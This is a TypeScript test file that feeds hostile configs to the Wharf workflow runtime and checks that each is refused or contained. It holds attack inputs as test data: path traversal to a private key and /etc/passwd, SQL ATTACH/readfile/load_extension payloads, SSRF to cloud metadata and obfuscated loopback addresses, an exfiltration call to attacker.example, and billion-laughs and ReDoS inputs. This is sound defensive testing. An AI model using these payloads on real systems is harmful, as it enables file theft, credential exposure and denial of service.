/**
 * The hostile-config corpus: configs a stranger could commit, each refused at start or contained at run time,
 * and for each a scan proves nothing outside the environment's own directories was read or written (see
 * helpers/sandbox.ts: Wharf's private key sits at ../../github-app.pem from the config dir, as in .wharf/).
 */
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { ConfigError } from '../src/config/app-config.js';
import { createRuntime, type Runtime, type RuntimeOptions } from '../src/runtime.js';
import { call } from './helpers/start-runtime.js';
import { createSandbox, type Sandbox } from './helpers/sandbox.js';

type Case = {
  readonly name: string;
  readonly setup?: (sb: Sandbox) => void;
  readonly yaml: (sb: Sandbox) => string;
  readonly options?: Partial<RuntimeOptions>;
  /** Refused at start, with a message matching this. */
  readonly refused?: RegExp;
  /** Contained at run time: what a request sees. */
  readonly probe?: (url: string, t: Test, sb: Sandbox) => Promise<void>;
};

const SERVER = `
  - { name: server, type: http.server, config: { address: ":8080" } }
  - { name: router, type: http.router }`;

const module = (type: string, config: string) => `modules:${SERVER}
  - { name: target, type: ${type}, config: ${config} }
`;

/** An app whose one route runs `steps` (YAML flow list items). */
const pipeline = (steps: string, extraModules = '', extra = '') => `modules:${SERVER}${extraModules}
pipelines:
  attack:
    ${extra}trigger: { type: http, config: { path: /attack, method: POST } }
    steps:
${steps}
`;

const sqlApp = (query: string) =>
  pipeline(
    `      - { name: q, type: step.db_exec, config: { database: db, query: ${JSON.stringify(query)} } }
      - { name: ok, type: step.json_response, config: { body: { done: true } } }`,
    '\n  - { name: db, type: storage.sqlite, config: { dbPath: app.db } }',
  );

const jqApp = (expression: string, timeout = '') =>
  pipeline(
    `      - { name: j, type: step.jq, config: { expression: ${JSON.stringify(expression)} } }
      - { name: ok, type: step.json_response, config: { body: { done: true } } }`,
    '',
    timeout ? `timeout: ${timeout}\n    ` : '',
  );

const templateApp = (template: string) =>
  pipeline(
    `      - { name: s, type: step.set, config: { values: { out: ${JSON.stringify(template)} } } }
      - { name: ok, type: step.json_response, config: { body: { size: "{{ len .out }}" } } }`,
  );

const httpCallApp = (url: string) =>
  pipeline(
    `      - { name: call, type: step.http_call, config: { url: ${JSON.stringify(url)}, headers: { Authorization: "Bearer s3cret" } } }
      - { name: ok, type: step.json_response, config: { body: { got: "{{ .steps.call.body.where }}" } } }`,
  );

/** A server on 127.0.0.1 that answers /ok and redirects /hop to `location`; it records what reached it. */
async function upstream(location = ''): Promise<{ server: Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.url} ${req.headers.authorization ?? ''}`);
    if (req.url === '/hop') {
      res.writeHead(302, { location });
      res.end();
    } else {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ where: 'upstream' }));
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

const staticApp = `modules:${SERVER}
  - { name: site, type: static.fileserver, config: { root: ./site, prefix: /ui, spaFallback: false } }
`;

/** GET with the path sent byte for byte (fetch would normalize `..` away). */
function rawGet(url: string, path: string): Promise<{ status: number; body: string }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, path, method: 'GET' }, (res) => {
      let body = '';
      res.on('data', (d) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

const expectStatus = (path: string, status: number, sent = false) => async (url: string, t: Test) => {
  const res = await rawGet(url, path);
  t.equal(res.status, status, `GET ${path} answers ${status}`);
  t.notMatch(res.body, /PRIVATE KEY|canary/, 'no outside content is served');
  void sent;
};

const attack = async (url: string, body: unknown = {}) => call(`${url}/attack`, { body });

const CASES: Case[] = [
  // Paths in module config, refused at start.
  { name: 'static root: absolute path', yaml: () => module('static.fileserver', '{ root: /etc }'), refused: /config\.root: "\/etc" is an absolute path/ },
  { name: "static root: .. escape to Wharf's data dir", yaml: () => module('static.fileserver', '{ root: ../../.. }'), refused: /config\.root: "\.\.\/\.\.\/\.\." leaves the environment's directories/ },
  { name: 'static root: sibling escape', yaml: () => module('static.fileserver', '{ root: ../../outside }'), refused: /leaves the environment's directories/ },
  {
    name: 'static root: a symlink in the config dir that leads outside',
    setup: (sb) => sb.symlink('../../outside', 'env/config/assets'),
    yaml: () => module('static.fileserver', '{ root: ./assets }'),
    refused: /config\.root: "\.\/assets" leads through a symlink to ".*outside", outside the environment's directories/,
  },
  { name: 'static root: NUL byte', yaml: () => module('static.fileserver', '{ root: "site\\0/../../.." }'), refused: /config\.root: the path contains a NUL byte/ },
  { name: 'static root: Windows drive path', yaml: () => module('static.fileserver', '{ root: "C:\\\\Windows" }'), refused: /is an absolute path/ },
  { name: 'static root: backslash escape', yaml: () => module('static.fileserver', '{ root: "..\\\\..\\\\outside" }'), refused: /contains a backslash/ },
  { name: 'static root: home directory', yaml: () => module('static.fileserver', '{ root: "~/.ssh" }'), refused: /is an absolute path/ },
  { name: 'sqlite dbPath: absolute path', yaml: (sb) => module('storage.sqlite', `{ dbPath: ${JSON.stringify(join(sb.outside, 'x.db'))} }`), refused: /config\.dbPath: ".*x\.db" is an absolute path/ },
  { name: 'sqlite dbPath: /data/x.db', yaml: () => module('storage.sqlite', '{ dbPath: /data/x.db }'), refused: /config\.dbPath: "\/data\/x\.db" is an absolute path/ },
  { name: 'sqlite dbPath: .. escape', yaml: () => module('storage.sqlite', '{ dbPath: ../../outside/other-env.db }'), refused: /config\.dbPath: .* leaves the environment's directories/ },
  { name: 'sqlite dbPath: file: URI escape', yaml: () => module('storage.sqlite', '{ dbPath: "file:../../outside/other-env.db?mode=rwc" }'), refused: /leaves the environment's directories/ },
  {
    name: 'sqlite dbPath: a symlink in the data dir that leads outside',
    setup: (sb) => sb.symlink('../../outside', 'env/data/shared'),
    yaml: () => module('storage.sqlite', '{ dbPath: shared/other-env.db }'),
    refused: /config\.dbPath: "shared\/other-env\.db" leads through a symlink/,
  },
  { name: "sqlite dbPath: into the runtime's own state folder", yaml: () => module('storage.sqlite', '{ dbPath: .wharf-runtime/configs/x.json }'), refused: /config\.dbPath: "\.wharf-runtime\/configs\/x\.json" is inside \.wharf-runtime\/, which the runtime keeps for itself/ },
  { name: 'database.workflow sqlite dsn: absolute path', yaml: () => module('database.workflow', '{ driver: sqlite3, dsn: /etc/passwd }'), refused: /config\.dsn: "\/etc\/passwd" is an absolute path/ },
  { name: "auth.jwt seedFile: Wharf's private key", yaml: () => module('auth.jwt', '{ secret: s3cret-s3cret-s3cret, seedFile: ../../github-app.pem }'), refused: /config\.seedFile: "\.\.\/\.\.\/github-app\.pem" leaves the environment's directories/ },
  { name: 'auth.jwt seedFile: absolute path', yaml: () => module('auth.jwt', '{ secret: s3cret-s3cret-s3cret, seedFile: /etc/passwd }'), refused: /config\.seedFile: "\/etc\/passwd" is an absolute path/ },
  {
    name: "auth.jwt seedFile: a symlink to Wharf's private key",
    setup: (sb) => sb.symlink('../../github-app.pem', 'env/config/users.json'),
    yaml: () => module('auth.jwt', '{ secret: s3cret-s3cret-s3cret, seedFile: users.json }'),
    refused: /config\.seedFile: "users\.json" leads through a symlink/,
  },
  // Outbound connections.
  { name: 'postgres DSN to a host nobody allowed', yaml: () => module('database.workflow', '{ driver: postgres, dsn: "postgres://u:p@db.example.com:5432/x" }'), refused: /connecting to db\.example\.com:5432 is not allowed; this runtime allows no outbound connections/ },
  {
    name: 'postgres DSN to an allowed host on another port',
    yaml: () => module('database.workflow', '{ driver: postgres, dsn: "postgres://u:p@127.0.0.1:6543/x" }'),
    options: { allowHosts: ['127.0.0.1:5432'] },
    refused: /connecting to 127\.0\.0\.1:6543 is not allowed; allowed: 127\.0\.0\.1:5432/,
  },
  { name: 'postgres DSN that makes the client read a local file', yaml: () => module('database.workflow', '{ driver: postgres, dsn: "postgres://u@db/x?sslrootcert=/etc/ssl/private/server.key" }'), refused: /DSN parameters sslrootcert are not allowed/ },
  { name: 'postgres DSN over a unix socket', yaml: () => module('database.workflow', '{ driver: postgres, dsn: "host=/var/run/postgresql dbname=x" }'), refused: /unix sockets and host lists are not supported/ },
  { name: 'postgres DSN with several hosts', yaml: () => module('database.workflow', '{ driver: postgres, dsn: "postgres://u@a.example,b.example/x" }'), refused: /several hosts in one DSN are not supported/ },
  // Wharf's own paths and the config itself.
  {
    name: "a route that hijacks Wharf's health check",
    yaml: () => pipeline('      - { name: ok, type: step.json_response, config: { body: { status: ok, digest: forged } } }').replace('/attack', '/.wharf/healthz'),
    refused: /route POST \/\.wharf\/healthz is under \/\.wharf\/, which is reserved for Wharf/,
  },
  {
    name: "health.checker moved onto Wharf's health path",
    yaml: () => module('health.checker', '{ healthPath: /.wharf/healthz }'),
    probe: async (url, t) => {
      t.same((await call(`${url}/.wharf/healthz`)).body, { status: 'ok', digest: 'sha256:hostile', stateful: false, dataFiles: [] }, "Wharf's health path keeps answering with the digest");
    },
  },
  { name: 'a static file server mounted under /.wharf', yaml: () => module('static.fileserver', '{ root: ., prefix: /.wharf }'), refused: /config\.prefix: "\/\.wharf" is under \/\.wharf\/, which is reserved for Wharf/ },
  {
    name: "a static root's own .wharf folder is not served",
    setup: (sb) => sb.write('env/config/site/.wharf/healthz', '{"status":"ok","digest":"forged"}'),
    yaml: () => module('static.fileserver', '{ root: ./site, prefix: / }'),
    probe: async (url, t) => {
      const res = await rawGet(url, '/.wharf/healthz');
      t.equal(res.status, 200);
      t.notMatch(res.body, /forged/, "Wharf's health path answers, not the file");
      t.equal((await rawGet(url, '/.wharf/anything')).status, 404, 'other paths under /.wharf/ are 404, not the app');
    },
  },
  {
    name: 'YAML aliases that multiply (billion laughs)',
    yaml: () => {
      const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
      for (let i = 1; i < 9; i++) lines.push(`a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(', ')}]`);
      return `${lines.join('\n')}\nmodules:${SERVER}\n`;
    },
    refused: /expands to more than 1000000 values/,
  },
  {
    name: 'a config file outside --config-root',
    setup: (sb) => sb.write('outside/evil.yaml', `modules:${SERVER}\n`),
    yaml: () => `modules:${SERVER}\n`,
    options: {},
    refused: /outside --config-root/,
  },
  // Contained at run time: the file server.
  ...[
    ['encoded slashes', '/ui/..%2f..%2f..%2fgithub-app.pem', 403],
    ['raw ..', '/ui/../../../github-app.pem', 403],
    ['encoded dots', '/ui/%2e%2e/%2e%2e/%2e%2e/github-app.pem', 403],
    ['a NUL byte', '/ui/index.html%00.png', 400],
    ['double encoding', '/ui/%252e%252e%252f%252e%252e%252fgithub-app.pem', 404],
    ['a symlink inside the root that leads outside', '/ui/leak.txt', 403],
  ].map(
    ([what, path, status]): Case => ({
      name: `file server request: ${what}`,
      setup: (sb) => {
        sb.write('env/config/site/index.html', '<p>site</p>');
        sb.symlink('../../../outside/canary.txt', 'env/config/site/leak.txt');
      },
      yaml: () => staticApp,
      probe: expectStatus(String(path), Number(status)),
    }),
  ),
  // SQL that reaches other files.
  ...[
    ['ATTACH DATABASE of another environment', "ATTACH DATABASE '../../outside/other-env.db' AS other"],
    ['ATTACH by absolute path', 'ATTACH DATABASE \'__OUTSIDE__/stolen.db\' AS s'],
    ['ATTACH hidden by a comment and case', "/* nothing */ attach   'file:__OUTSIDE__/stolen.db?mode=rwc' as s"],
    ['ATTACH after a statement in a list', "CREATE TABLE IF NOT EXISTS t(x); ATTACH '__OUTSIDE__/stolen.db' AS s; CREATE TABLE IF NOT EXISTS u(x)"],
    ['VACUUM INTO a file outside', "VACUUM INTO '__OUTSIDE__/copy.db'"],
    ['load_extension', "SELECT load_extension('__OUTSIDE__/evil.so')"],
    ['readfile of the private key', "SELECT readfile('../../github-app.pem')"],
  ].map(
    ([what, query]): Case => ({
      name: `SQL: ${what}`,
      yaml: (sb) => sqlApp(String(query).replaceAll('__OUTSIDE__', sb.outside)),
      probe: async (url, t) => {
        const res = await attack(url);
        t.equal(res.status, 500, 'the statement fails');
        t.same(res.body, { error: 'database error', pipeline: 'attack', step: 'q' }, 'as a database error that names no SQL');
      },
    }),
  ),
  {
    name: 'SQL: a query that returns more rows than the limit',
    yaml: () => sqlApp('WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 10000) SELECT x FROM n').replace('step.db_exec', 'step.db_query'),
    options: { limits: { sqlRows: 1_000 } },
    probe: async (url, t) => {
      const res = await attack(url);
      t.equal(res.status, 500, 'the query stops at the row limit instead of filling memory');
    },
  },
  // jq that never ends or grows without bound.
  ...[
    ['repeat(1)', 'repeat(1)'],
    ['recursion without end', 'def f: f; f'],
    ['a huge array', '[range(1e9)]'],
  ].map(
    ([what, expression]): Case => ({
      name: `jq: ${what}`,
      yaml: () => jqApp(String(expression), '100h'),
      options: { limits: { pipelineTimeoutMs: 1_500 } },
      probe: async (url, t) => {
        const t0 = performance.now();
        const res = await attack(url);
        t.ok([500, 504].includes(res.status), `stopped with ${res.status}: ${res.text.slice(0, 120)}`);
        t.ok(performance.now() - t0 < 10_000, 'within the pipeline timeout (100h in the YAML is capped by --pipeline-timeout)');
        const again = await call(`${url}/.wharf/healthz`);
        t.equal(again.status, 200, 'the runtime keeps answering');
      },
    }),
  ),
  {
    name: "jq: reading Wharf's files and the environment",
    yaml: () => jqApp('import "../../github-app" as $k; $k'),
    refused: /step j: invalid jq expression: jq: error/,
  },
  // Templates that loop or grow.
  ...[
    ['range over a billion', '{{ range 1000000000 }}x{{ end }}', /range ran more than/],
    ['nested ranges', '{{ range 1000 }}{{ range 1000 }}{{ range 1000 }}.{{ end }}{{ end }}{{ end }}', /range ran more than/],
    ['repeat a billion times', '{{ repeat 1000000000 "x" }}', /would be 1000000000 characters/],
    ['a printf width of a billion', '{{ printf "%999999999d" 1 }}', /printf width/],
    ['replace that multiplies', '{{ replace "" (repeat 100000 "y") (repeat 1000 "x") }}', /the result would be/],
  ].map(
    ([what, template, error]): Case => ({
      name: `template: ${what}`,
      yaml: () => templateApp(String(template)),
      probe: async (url, t) => {
        const res = await attack(url);
        t.equal(res.status, 500, 'the template fails fast');
        t.match(res.body.error, error as RegExp);
      },
    }),
  ),
  // Patterns that backtrack.
  {
    name: 'a validate pattern that backtracks catastrophically',
    yaml: () =>
      pipeline(`      - { name: v, type: step.validate, config: { strategy: json_schema, schema: { type: object, properties: { name: { type: string, pattern: "^(a+)+$" } } } } }
      - { name: ok, type: step.json_response, config: { body: { valid: true } } }`),
    probe: async (url, t) => {
      const t0 = performance.now();
      const res = await attack(url, { name: `${'a'.repeat(5000)}!` });
      t.equal(res.status, 400, 'the input is rejected');
      t.ok(performance.now() - t0 < 5_000, 'in linear time (a backtracking engine would take longer than the age of the universe)');
    },
  },
  {
    name: 'a validate pattern with a backreference',
    yaml: () => pipeline(`      - { name: v, type: step.validate, config: { strategy: json_schema, schema: { properties: { name: { pattern: "^(a)\\\\1$" } } } } }`),
    refused: /step v \(step\.validate\): pattern .* needs backtracking \(a backreference or lookaround\), which Go's RE2 engine does not support either/,
  },
  // Work that feeds itself.
  {
    name: 'more cron jobs than a runtime runs',
    yaml: () =>
      `modules:${SERVER}\npipelines:\n  tick: { steps: [] }\ntriggers:\n  schedule:\n    jobs:\n${Array.from({ length: 101 }, () => '      - { cron: "* * * * * *", workflow: "pipeline:tick", action: run }').join('\n')}\n`,
    refused: /the config schedules 101 cron jobs; a runtime runs at most 100/,
  },
  {
    name: 'a pipeline that publishes to the topic that triggers it',
    yaml: () => `modules:${SERVER}
  - { name: bus, type: messaging.broker }
  - { name: db, type: storage.sqlite, config: { dbPath: app.db } }
pipelines:
  attack:
    trigger: { type: http, config: { path: /attack, method: POST } }
    steps:
      - { name: ddl, type: step.db_exec, config: { database: db, query: "CREATE TABLE IF NOT EXISTS hops (n INTEGER)" } }
      - { name: go, type: step.publish, config: { topic: loop, payload: { n: 1 } } }
      - { name: ok, type: step.json_response, config: { body: { started: true } } }
  again:
    trigger: { type: event, config: { topic: loop } }
    steps:
      - { name: count, type: step.db_exec, config: { database: db, query: "INSERT INTO hops (n) VALUES (1)" } }
      - { name: more, type: step.publish, config: { topic: loop, payload: { n: 1 } } }
  hops:
    trigger: { type: http, config: { path: /hops } }
    steps:
      - { name: q, type: step.db_query, config: { database: db, mode: single, query: "SELECT count(*) AS n FROM hops" } }
      - { name: r, type: step.json_response, config: { body_from: steps.q.row } }
`,
    probe: async (url, t) => {
      t.equal((await attack(url)).status, 200);
      const hops = async () => (await call(`${url}/hops`)).body.n as number;
      for (let i = 0; i < 200 && (await hops()) < 32; i++) await new Promise((r) => setTimeout(r, 50));
      t.equal(await hops(), 32, 'the chain gets 32 messages deep');
      await new Promise((r) => setTimeout(r, 500));
      t.equal(await hops(), 32, 'and stops there instead of running for ever');
    },
  },
  // Bodies.
  {
    name: 'request body over --max-body-bytes',
    yaml: () => pipeline('      - { name: ok, type: step.json_response, config: { body: { done: true } } }'),
    options: { limits: { maxBodyBytes: 1024 } },
    probe: async (url, t) => {
      const res = await attack(url, { blob: 'x'.repeat(4096) });
      t.equal(res.status, 413);
      t.same(res.body, { error: 'request body too large' });
    },
  },
  // HTTP calls from a config.
  { name: 'http_call to a host nobody allowed', yaml: () => httpCallApp('https://attacker.example/collect'), refused: /step call \(step\.http_call\) config\.url: connecting to attacker\.example:443 is not allowed/ },
  { name: 'http_call to the loopback as a decimal number', yaml: () => httpCallApp('http://2130706433:4600/api'), options: { allowHosts: ['api.example'] }, refused: /connecting to 127\.0\.0\.1:4600 is not allowed/ },
  { name: 'http_call to the loopback in hex', yaml: () => httpCallApp('http://0x7f.1:4600/'), options: { allowHosts: ['api.example'] }, refused: /connecting to 127\.0\.0\.1:4600 is not allowed/ },
  { name: 'http_call to the IPv6 loopback', yaml: () => httpCallApp('http://[::1]:4600/'), options: { allowHosts: ['api.example'] }, refused: /connecting to ::1:4600 is not allowed/ },
  { name: 'http_call to a file: URL', yaml: () => httpCallApp('file:///etc/passwd'), refused: /only http and https URLs are allowed, not file:/ },
  {
    name: 'http_call whose templated URL points elsewhere at run time',
    yaml: () => httpCallApp('http://{{ .body.host }}/steal'),
    options: { allowHosts: ['api.example'] },
    probe: async (url, t) => {
      const res = await attack(url, { host: '169.254.169.254' });
      t.equal(res.status, 500, 'the call is refused when it is made');
      t.match(res.body.error, /connecting to 169\.254\.169\.254:80 is not allowed/);
    },
  },
  {
    name: 'http_call redirected from an allowed host to one that is not',
    yaml: () => httpCallApp('http://127.0.0.1:__PORT__/hop'),
    probe: async () => undefined,
  },
  // Sub-steps (step.foreach, step.parallel, step.delegate): counts a request controls are bounded.
  {
    name: 'step.foreach over a request body with more items than the limit',
    yaml: () =>
      pipeline(`      - { name: each, type: step.foreach, config: { collection: body.items, step: { type: step.set, values: { x: "1" } } } }
      - { name: ok, type: step.json_response, config: { body: { done: true } } }`),
    probe: async (url, t) => {
      const res = await attack(url, { items: Array.from({ length: 10_001 }, (_, i) => i) });
      t.equal(res.status, 500, 'refused, not iterated');
      t.match(res.body.error, /the collection has 10001 items, more than 10000/);
    },
  },
  {
    name: 'step.foreach inside step.foreach multiplies runs: the sub-step budget stops it',
    yaml: () =>
      pipeline(`      - name: outer
        type: step.foreach
        config:
          collection: body.rows
          item_var: row
          step:
            type: step.foreach
            collection: body.cols
            step: { type: step.set, values: { x: "{{ .row }}" } }
      - { name: ok, type: step.json_response, config: { body: { done: true } } }`),
    probe: async (url, t) => {
      const many = Array.from({ length: 5_000 }, (_, i) => i);
      const res = await attack(url, { rows: many, cols: many });
      t.equal(res.status, 500, '25 million runs are not attempted');
      t.match(res.body.error, /more than 100000 sub-step runs in one pipeline run/);
    },
  },
  {
    name: 'sub-steps nested more than 4 deep',
    yaml: () => {
      let step = '{ type: step.set, values: { x: "1" } }';
      for (let i = 0; i < 5; i++) step = `{ type: step.foreach, collection: body.items, step: ${step} }`;
      return pipeline(`      - { name: deep, type: step.foreach, config: { collection: body.items, step: ${step} } }`);
    },
    refused: /sub-steps are nested more than 4 deep/,
  },
  {
    name: 'step.parallel branch of a type the runtime does not run',
    yaml: () => pipeline('      - { name: fan, type: step.parallel, config: { steps: [{ name: sh, type: step.shell_exec, commands: ["cat /etc/passwd"] }] } }'),
    refused: /step sh: unsupported step type step\.shell_exec/,
  },
  {
    name: 'step.delegate to a module that is no HTTP handler (a database)',
    yaml: () =>
      pipeline('      - { name: d, type: step.delegate, config: { service: db } }', '\n  - { name: db, type: storage.sqlite, config: { dbPath: app.db } }'),
    probe: async (url, t) => {
      const res = await attack(url);
      t.equal(res.status, 500, 'fails when it runs, as in the engine');
      t.match(res.body.error, /service "db" does not implement http\.Handler/);
    },
  },
  { name: 'feature flag store outside the data dir', yaml: () => module('featureflag.service', '{ db_path: ../../outside/flags.db }'), refused: /config\.db_path: .* leaves the environment's directories/ },
  // reverseproxy: backends are connections like any other.
  { name: 'reverseproxy backend as a file: URL', yaml: () => module('reverseproxy', '{ backend_services: { f: "file:///etc/passwd" }, default_backend: f }'), refused: /config\.backend_services: backend f: only http and https backends are allowed/ },
  {
    name: 'reverseproxy default backend at the cloud metadata address',
    yaml: () => module('reverseproxy', '{ backend_services: { m: "http://169.254.169.254/latest" }, default_backend: m }'),
    probe: async (url, t) => {
      const res = await call(`${url}/meta-data/iam/security-credentials/`);
      t.equal(res.status, 502, 'refused before any connection');
      t.match(res.body.error, /connecting to 169\.254\.169\.254:80 is not allowed/);
    },
  },
  {
    name: 'reverseproxy backend whose name hides the loopback address (decimal form)',
    yaml: () => module('reverseproxy', '{ backend_services: { l: "http://2130706433:4600" }, routes: { "/admin/*": l } }'),
    probe: async (url, t) => {
      const res = await call(`${url}/admin/x`);
      t.equal(res.status, 502);
      t.match(res.body.error, /connecting to 127\.0\.0\.1:4600 is not allowed/, 'the address it means is what is checked');
    },
  },
  // Where the runtime listens.
  {
    name: 'http.server address 0.0.0.0 does not open all interfaces',
    yaml: () => `modules:\n  - { name: server, type: http.server, config: { address: "0.0.0.0:8080" } }\n`,
    probe: async (url, t) => {
      t.match(url, /^http:\/\/127\.0\.0\.1:\d+$/, 'bound to 127.0.0.1');
    },
  },
];

t.test('the hostile-config corpus', async (t) => {
  t.ok(CASES.length >= 30, `${CASES.length} cases`);
  for (const c of CASES) {
    await t.test(c.name, async (t) => {
      const sb = createSandbox();
      t.teardown(() => sb.remove());
      c.setup?.(sb);
      let yaml = c.yaml(sb);
      let options = c.options;
      let up: Awaited<ReturnType<typeof upstream>> | null = null;
      let other: Awaited<ReturnType<typeof upstream>> | null = null;
      if (yaml.includes('__PORT__')) {
        // The redirect case: an allowed upstream that redirects to a second server the runtime may not reach.
        other = await upstream();
        up = await upstream(`http://127.0.0.1:${other.port}/ok`);
        t.teardown(() => {
          up?.server.close();
          other?.server.close();
        });
        yaml = yaml.replace('__PORT__', String(up.port));
        options = { allowHosts: [`127.0.0.1:${up.port}`] };
      }
      const config = sb.write('env/config/app.yaml', yaml);
      const configFiles = c.name === 'a config file outside --config-root' ? [config, join(sb.outside, 'evil.yaml')] : [config];
      sb.seal();
      const before = sb.snapshot();
      let rt: Runtime | null = null;
      try {
        rt = await createRuntime({ configFiles, configRoot: sb.configDir, dataDir: sb.dataDir, port: 0, digest: 'sha256:hostile', ...options });
      } catch (err) {
        if (!c.refused) throw err;
        t.type(err, ConfigError, 'refused at start');
        t.match((err as Error).message, c.refused, 'with a message that says what is refused');
        if (c.yaml(sb).includes('name: target')) t.match((err as Error).message, /app\.yaml: module target \([\w.]+\) config\.\w+: /, 'naming the file, the module and the key');
      }
      if (c.refused) t.equal(rt, null, 'never listens');
      if (rt) {
        t.teardown(() => rt?.close());
        await c.probe?.(rt.url, t, sb);
        if (up && other) {
          const res = await attack(rt.url);
          t.equal(res.status, 500, 'the redirect is not followed');
          t.match(res.body.error, new RegExp(`connecting to 127\\.0\\.0\\.1:${other.port} is not allowed`));
          t.same(up.seen, ['/hop Bearer s3cret'], 'the allowed host was called');
          t.same(other.seen, [], 'the host it redirected to was never reached');
        }
        await rt.close();
      }
      t.same(sb.changes(before), [], `nothing outside the environment was read or written${sb.atimeWorks ? '' : ' (this filesystem does not record reads: writes only)'}`);
    });
  }
});
